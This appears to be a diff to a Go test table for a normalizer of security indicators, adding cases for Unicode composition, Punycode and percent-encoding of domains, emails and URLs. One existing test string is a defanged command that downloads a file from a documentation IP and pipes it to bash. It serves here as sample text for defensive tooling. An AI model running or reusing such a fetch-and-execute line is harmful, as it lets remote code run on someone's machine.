@@ -77,7 +77,14 @@ var normalized = []struct {
 	{"aabbcc001122", Text, "aabbcc001122"}, {"aa:bb-cc:00:11:22", Text, "aa:bb-cc:00:11:22"}, {"aa:bb:cc:00:11:2", Text, "aa:bb:cc:00:11:2"}, {"aaabb:ccdd:ee:ff:0", Text, "aaabb:ccdd:ee:ff:0"},
 	// AS numbers.
 	{"AS64496", ASN, "AS64496"}, {"as64496", ASN, "AS64496"}, {"ASN064496", ASN, "AS64496"}, {"AS4294967295", ASN, "AS4294967295"}, {"AS4294967296", Text, "AS4294967296"}, {"AS", Text, "AS"},
-	// Text stays as it is.
+	// Text is composed (NFC).
+	{"Cafe\u0301", Text, "Café"}, {"Café", Text, "Café"}, {"\u212b", Text, "Å"}, {"\u1100\u1161\u11a8", Text, "각"}, {"a\u0323\u0307", Text, "ạ\u0307"}, {"a\u0307\u0323", Text, "ạ\u0307"},
+	{"\u0958", Text, "\u0915\u093c"}, {"ﬁ", Text, "ﬁ"}, {"e" + strings.Repeat("\u0301", 30), Text, "é" + strings.Repeat("\u0301", 29)},
+	{"e" + strings.Repeat("\u0301", 31), Text, "e" + strings.Repeat("\u0301", 31)}, {"\xffe\u0301", Text, "\xffé"},
+	{"\u1fefevil.example\u1fef", Domain, "evil.example"}, {"\u1fefx y\u1fef", Text, "`x y`"},
+	{"U\u0308nal@evil.example", Email, "ünal@evil.example"}, {"J\u030c@evil.example", Email, "\u01f0@evil.example"}, {"a\u037eb@evil.example", Text, "a;b@evil.example"},
+	{"http://evil.example/e\u0301", URL, "http://evil.example/e%CC%81"}, {"http://bu\u0308cher.example/", URL, "http://xn--bcher-kva.example/"},
+	// It stays as it is otherwise.
 	{"", Text, ""}, {"Process Name", Text, "Process Name"}, {"nul\x00byte", Text, "nul\x00byte"}, {"\xff\xfe", Text, "\xff\xfe"}, {"wget -qO- hxxp://198.51.100[.]93/patch|bash", Text, "wget -qO- hxxp://198.51.100[.]93/patch|bash"},
 	// Defanged.
 	{"hxxp://evil[.]example/x", URL, "http://evil.example/x"}, {"hXXpS://evil(.)example", URL, "https://evil.example/"}, {"h**p://evil.example/", URL, "http://evil.example/"},
